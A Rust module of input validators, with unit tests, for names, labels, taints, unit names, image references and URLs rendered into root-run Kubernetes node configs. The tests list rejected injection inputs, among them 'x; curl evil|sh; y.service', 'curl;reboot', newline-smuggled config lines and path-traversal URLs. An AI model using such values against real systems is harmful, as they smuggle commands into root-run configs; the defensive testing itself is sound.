//! What the configs a manifest string is rendered into allow: each check
//! takes a string and says whether that config's syntax takes it as one
//! plain token (no quote, newline, space or separator that would end the
//! token and start new text in a root-run config).

/// RFC 1123 label, as Kubernetes requires for node names.
pub(super) fn is_dns_label(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 63
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !s.starts_with('-')
        && !s.ends_with('-')
}

/// RFC 1123 subdomain: dot-separated labels, at most 253 characters.
pub(super) fn is_dns_subdomain(s: &str) -> bool {
    s.len() <= 253 && s.split('.').all(is_dns_label)
}

/// A Linux network interface name (keepalived's `interface`, a netplan
/// `ethernets` key): 1 to 15 characters (IFNAMSIZ less its NUL) of
/// `[A-Za-z0-9_.:-]`, and not `.` or `..`.
pub(super) fn is_interface_name(s: &str) -> bool {
    (1..=15).contains(&s.len())
        && s != "."
        && s != ".."
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b':' | b'-'))
}

/// A MAC address as network-config's `macaddress` takes it: six pairs of
/// hex digits joined by `:`; returned in lowercase.
pub(super) fn parse_mac(s: &str) -> Option<String> {
    let pairs: Vec<&str> = s.split(':').collect();
    let ok = pairs.len() == 6
        && pairs
            .iter()
            .all(|p| p.len() == 2 && p.bytes().all(|b| b.is_ascii_hexdigit()));
    ok.then(|| s.to_ascii_lowercase())
}

/// The name part of a Kubernetes qualified name, and a label value when not
/// empty: at most 63 of `[A-Za-z0-9_.-]`, alphanumeric at both ends.
fn is_qualified_name_part(s: &str) -> bool {
    let edge = |b: Option<&u8>| b.is_some_and(u8::is_ascii_alphanumeric);
    s.len() <= 63
        && edge(s.as_bytes().first())
        && edge(s.as_bytes().last())
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'))
}

/// A Kubernetes label (or taint) key: `[prefix/]name`, the prefix a DNS
/// subdomain.
pub(super) fn is_label_key(s: &str) -> bool {
    match s.split_once('/') {
        Some((prefix, name)) => {
            !prefix.is_empty() && is_dns_subdomain(prefix) && is_qualified_name_part(name)
        }
        None => is_qualified_name_part(s),
    }
}

/// The labels a kubelet may give its own Node outside its namespaces
/// (k8s.io/kubelet pkg/apis/well_known_labels.go, `kubeletLabels`).
const KUBELET_LABELS: [&str; 11] = [
    "kubernetes.io/hostname",
    "topology.kubernetes.io/zone",
    "topology.kubernetes.io/region",
    "failure-domain.beta.kubernetes.io/zone",
    "failure-domain.beta.kubernetes.io/region",
    "beta.kubernetes.io/instance-type",
    "node.kubernetes.io/instance-type",
    "kubernetes.io/os",
    "kubernetes.io/arch",
    "beta.kubernetes.io/os",
    "beta.kubernetes.io/arch",
];

/// The label namespaces (and their subdomains) a kubelet may set labels in
/// (the same file, `kubeletLabelNamespaces`).
pub(super) const KUBELET_LABEL_NAMESPACES: [&str; 2] =
    ["kubelet.kubernetes.io", "node.kubernetes.io"];

/// Whether `namespace` is `domain` or a subdomain of it.
fn in_domain(namespace: &str, domain: &str) -> bool {
    namespace == domain
        || namespace
            .strip_suffix(domain)
            .is_some_and(|sub| sub.ends_with('.'))
}

/// Whether the kubelet refuses the label key in `--node-labels` and exits:
/// a key in the kubernetes.io or k8s.io namespace (or a subdomain of one)
/// that is neither one of [`KUBELET_LABELS`] nor in
/// [`KUBELET_LABEL_NAMESPACES`] (kubernetes cmd/kubelet/app/options/options.go,
/// `ValidateKubeletFlags`). `node-role.kubernetes.io/*` is such a key.
pub(super) fn is_refused_by_kubelet(key: &str) -> bool {
    let Some((namespace, _)) = key.split_once('/') else {
        return false;
    };
    let kubernetes = ["kubernetes.io", "k8s.io"]
        .iter()
        .any(|d| in_domain(namespace, d));
    kubernetes
        && !KUBELET_LABELS.contains(&key)
        && !KUBELET_LABEL_NAMESPACES
            .iter()
            .any(|d| in_domain(namespace, d))
}

/// A Kubernetes label (or taint) value: empty, or a qualified name part.
pub(super) fn is_label_value(s: &str) -> bool {
    s.is_empty() || is_qualified_name_part(s)
}

pub(super) const TAINT_EFFECTS: [&str; 3] = ["NoSchedule", "PreferNoSchedule", "NoExecute"];

/// `key[=value]:Effect` as the kubelet's `--register-with-taints` takes it:
/// a label key, a label value and a known effect.
pub(super) fn is_taint(t: &str) -> bool {
    let Some((kv, effect)) = t.rsplit_once(':') else {
        return false;
    };
    let (key, value) = kv.split_once('=').unwrap_or((kv, ""));
    is_label_key(key) && is_label_value(value) && TAINT_EFFECTS.contains(&effect)
}

/// A systemd unit name as the seed's shell script and the enablement link
/// take it: at most 255 of `[A-Za-z0-9:_.@-]` (systemd's `\x` escapes are
/// not taken: the script passes names unquoted), ending in `suffix`.
pub(super) fn is_unit_name(s: &str, suffix: &str) -> bool {
    s.len() <= 255
        && s.len() > suffix.len()
        && s.ends_with(suffix)
        && !s.starts_with(['.', '-'])
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'_' | b'.' | b'@' | b'-'))
}

/// A pin's name (a file name on the node, a template key): at most 63 of
/// `[a-z0-9._-]`, alphanumeric at both ends.
pub(super) fn is_pin_name(s: &str) -> bool {
    let edge = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit());
    s.len() <= 63
        && edge(s.as_bytes().first())
        && edge(s.as_bytes().last())
        && s.bytes().all(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'.' | b'_' | b'-')
        })
}

/// A pin's version (substituted into archive member names): at most 128 of
/// `[A-Za-z0-9._+~-]`, starting alphanumeric.
pub(super) fn is_version(s: &str) -> bool {
    s.len() <= 128
        && s.as_bytes().first().is_some_and(u8::is_ascii_alphanumeric)
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'~' | b'-'))
}

/// A host name or IPv4 address with an optional port: the registry part of
/// an image reference, the host of a download URL.
fn is_host_port(s: &str) -> bool {
    let (host, port) = s.split_once(':').unwrap_or((s, "1"));
    let component = |c: &str| {
        !c.is_empty()
            && c.len() <= 63
            && !c.starts_with('-')
            && !c.ends_with('-')
            && c.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    host.len() <= 253
        && host.split('.').all(component)
        && !port.is_empty()
        && port.len() <= 5
        && port.bytes().all(|b| b.is_ascii_digit())
}

/// One path component of an image repository: lowercase alphanumerics
/// joined by `.`, `_`, `__` or runs of `-`.
fn is_repository_component(s: &str) -> bool {
    let b = s.as_bytes();
    let alnum = |c: &u8| c.is_ascii_lowercase() || c.is_ascii_digit();
    let (Some(first), Some(last)) = (b.first(), b.last()) else {
        return false;
    };
    alnum(first)
        && alnum(last)
        && b.iter()
            .all(|c| alnum(c) || matches!(c, b'.' | b'_' | b'-'))
        && !s.contains("..")
        && !s.contains("___")
        && !s.contains("._")
        && !s.contains("_.")
}

/// `registry/repository:tag` as containerd's config and a Deployment's
/// `image:` take it (the reference grammar of the OCI distribution spec,
/// registry required, no digest).
pub(super) fn is_image_reference(s: &str) -> bool {
    let Some((name, tag)) = s.rsplit_once(':') else {
        return false;
    };
    let tag_ok = tag.len() <= 128
        && tag
            .as_bytes()
            .first()
            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        && tag
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'));
    let Some((registry, repository)) = name.split_once('/') else {
        return false;
    };
    tag_ok
        && name.len() <= 255
        && is_host_port(registry)
        && repository.split('/').all(is_repository_component)
}

/// A download URL: `http(s)://host[:port]/path` or `file:///path`, whose
/// path segments are neither empty, `.` nor `..` (a bundle stores the file at
/// the URL's host and path) and hold only URL characters (no space, quote,
/// backslash, control character, query or fragment).
pub(super) fn is_download_url(s: &str) -> bool {
    let (host, path) = if let Some(rest) = s.strip_prefix("file://") {
        ("", rest)
    } else if let Some(rest) = s
        .strip_prefix("https://")
        .or_else(|| s.strip_prefix("http://"))
    {
        rest.split_at(rest.find('/').unwrap_or(rest.len()))
    } else {
        return false;
    };
    let Some(path) = path.strip_prefix('/') else {
        return false;
    };
    let url_char = |b: u8| {
        b.is_ascii_alphanumeric()
            || matches!(
                b,
                b'-' | b'.'
                    | b'_'
                    | b'~'
                    | b'!'
                    | b'$'
                    | b'&'
                    | b'('
                    | b')'
                    | b'*'
                    | b'+'
                    | b','
                    | b';'
                    | b'='
                    | b':'
                    | b'@'
                    | b'%'
            )
    };
    (s.starts_with("file://") || is_host_port(host))
        && path
            .split('/')
            .all(|seg| !seg.is_empty() && seg != "." && seg != ".." && seg.bytes().all(url_char))
}

/// The longest OS package name taken (Debian sets no limit; its longest
/// names are under 80).
pub(super) const MAX_PACKAGE_NAME: usize = 128;

/// A Debian package name (Debian Policy 5.6.1, `Package`): at least two of
/// `[a-z0-9+.-]`, starting with a letter or digit. Such a name is also one
/// plain word to the first-boot script's shell.
pub(super) fn is_debian_package(s: &str) -> bool {
    (2..=MAX_PACKAGE_NAME).contains(&s.len())
        && s.as_bytes()
            .first()
            .is_some_and(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        && s.bytes().all(|b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'+' | b'.' | b'-')
        })
}

/// Whether `s` holds a control character (a newline, a tab, an escape).
pub(super) fn has_control(s: &str) -> bool {
    s.chars().any(char::is_control)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dns_labels() {
        assert!(is_dns_label("master01"));
        assert!(is_dns_label("a-b"));
        assert!(!is_dns_label("Master01"));
        assert!(!is_dns_label("-a"));
        assert!(!is_dns_label("a_b"));
        assert!(!is_dns_label(&"a".repeat(64)));
        assert!(is_dns_subdomain("kubeapi.ilinux.io"));
        assert!(!is_dns_subdomain("kubeapi..io"));
    }

    #[test]
    fn interface_names_follow_ifnamsiz() {
        for ok in [
            "eth0",
            "ens3",
            "enp0s31f6",
            "bond0.100",
            "eth0:1",
            "br_lan",
            "a",
        ] {
            assert!(is_interface_name(ok), "{ok}");
        }
        for bad in [
            "",
            ".",
            "..",
            "eth0\n}\nvrrp_script x {",
            "eth 0",
            "eth0/1",
            "sixteen-chars-xx",
            "é",
        ] {
            assert!(!is_interface_name(bad), "{bad:?}");
        }
    }

    #[test]
    fn macs_are_six_hex_pairs() {
        assert_eq!(
            parse_mac("52:54:00:AB:cd:01").as_deref(),
            Some("52:54:00:ab:cd:01")
        );
        for bad in [
            "",
            "52:54:00:ab:cd",
            "52:54:00:ab:cd:01:02",
            "52-54-00-ab-cd-01",
            "525400abcd01",
            "52:54:00:ab:cd:0g",
            "52:54:00:ab:cd:1",
            "52:54:00:ab:cd:01\n",
        ] {
            assert!(parse_mac(bad).is_none(), "{bad:?}");
        }
    }

    #[test]
    fn label_keys_and_values_follow_kubernetes() {
        assert!(is_label_key("topology.kubernetes.io/zone"));
        assert!(is_label_key("node-role.kubernetes.io/control-plane"));
        assert!(is_label_key("Tier_1.x"));
        assert!(!is_label_key("/zone"));
        assert!(!is_label_key("Example.com/zone"));
        assert!(!is_label_key("a/b/c"));
        assert!(!is_label_key("zone\nKUBELET_X"));
        assert!(!is_label_key(&"a".repeat(64)));
        assert!(is_label_value(""));
        assert!(is_label_value("rack-b"));
        assert!(!is_label_value("rack-b\"\nEVIL=1"));
        assert!(!is_label_value("-rack"));
        assert!(!is_label_value("a,b=c"));
    }

    #[test]
    fn kubelet_refuses_labels_in_kubernetes_namespaces_outside_its_list() {
        for refused in [
            "node-role.kubernetes.io/control-plane",
            "node-role.kubernetes.io/worker",
            "kubernetes.io/role",
            "app.kubernetes.io/name",
            "k8s.io/x",
            "example.k8s.io/x",
            "node-restriction.kubernetes.io/x",
        ] {
            assert!(is_refused_by_kubelet(refused), "{refused}");
        }
        for allowed in [
            "topology.kubernetes.io/zone",
            "kubernetes.io/arch",
            "node.kubernetes.io/instance-type",
            "node.kubernetes.io/anything",
            "example.node.kubernetes.io/x",
            "kubelet.kubernetes.io/x",
            "example.com/role",
            "zone",
            "notkubernetes.io/x",
            "xnode.kubernetes.io.example.com/x",
        ] {
            assert!(!is_refused_by_kubelet(allowed), "{allowed}");
        }
    }

    #[test]
    fn taints() {
        assert!(is_taint("node-role.kubernetes.io/control-plane:NoSchedule"));
        assert!(is_taint("dedicated=infra:NoExecute"));
        assert!(is_taint("dedicated=:NoExecute"));
        assert!(!is_taint("dedicated=infra"));
        assert!(!is_taint("x:Sometimes"));
        assert!(!is_taint(":NoSchedule"));
        assert!(!is_taint("a=b\" --x=y:NoSchedule"));
        assert!(!is_taint("a=b,c=d:NoSchedule"));
    }

    #[test]
    fn debian_package_names_follow_policy() {
        for ok in [
            "haproxy",
            "libc6",
            "g++",
            "iproute2",
            "libstdc++6",
            "0ad",
            "python3.11",
        ] {
            assert!(is_debian_package(ok), "{ok}");
        }
        for bad in [
            "",
            "a",
            "Haproxy",
            "-x",
            "+x",
            ".x",
            "a_b",
            "a b",
            "curl;reboot",
            "é1",
        ] {
            assert!(!is_debian_package(bad), "{bad:?}");
        }
        assert!(!is_debian_package(&"a".repeat(MAX_PACKAGE_NAME + 1)));
    }

    #[test]
    fn unit_names() {
        assert!(is_unit_name("etcd.service", ".service"));
        assert!(is_unit_name("getty@tty1.service", ".service"));
        assert!(!is_unit_name(".service", ".service"));
        assert!(!is_unit_name("x; curl evil|sh; y.service", ".service"));
        assert!(!is_unit_name("../../etc/x.service", ".service"));
        assert!(!is_unit_name("a\\x2db.service", ".service"));
    }

    #[test]
    fn pin_names_and_versions() {
        assert!(is_pin_name("flannel-cni-plugin"));
        assert!(is_pin_name("kubernetes-server"));
        assert!(!is_pin_name("../etc"));
        assert!(!is_pin_name("Pause"));
        assert!(!is_pin_name(""));
        assert!(is_version("v1.35.4"));
        assert!(is_version("v1.9.1-flannel1"));
        assert!(is_version("3.10.1"));
        assert!(!is_version("v1/../../x"));
        assert!(!is_version(""));
    }

    #[test]
    fn image_references() {
        for ok in [
            "registry.k8s.io/pause:3.10.1",
            "registry.k8s.io/coredns/coredns:v1.12.4",
            "ghcr.io/flannel-io/flannel:v0.28.4",
            "localhost:5000/a/b:latest",
            "docker.io/library/busy_box:1",
        ] {
            assert!(is_image_reference(ok), "{ok}");
        }
        for bad in [
            "pause:3.10.1",
            "registry.k8s.io/pause",
            "registry.k8s.io/pause:3.10.1'\nx = 'y",
            "registry.k8s.io/Pause:1",
            "registry.k8s.io/pause:-1",
            "registry.k8s.io//pause:1",
            "registry.k8s.io/pause@sha256:00:1",
        ] {
            assert!(!is_image_reference(bad), "{bad:?}");
        }
    }

    #[test]
    fn download_urls() {
        for ok in [
            "https://dl.k8s.io/v1.35.4/kubernetes-server-linux-amd64.tar.gz",
            "http://127.0.0.1:8080/up/dl.k8s.io/x.tar.gz",
            "file:///srv/mirror/runc.amd64",
            "https://github.com/a/b/releases/download/v1.4.3/runc.amd64",
        ] {
            assert!(is_download_url(ok), "{ok}");
        }
        for bad in [
            "ftp://host/x",
            "https://host/../../etc/cron.d/x",
            "https://host/a//b",
            "https://host/a/./b",
            "https://host",
            "https://host/a b",
            "https://host/a\nb",
            "https://host/a?b",
            "https:///x",
        ] {
            assert!(!is_download_url(bad), "{bad:?}");
        }
    }
}
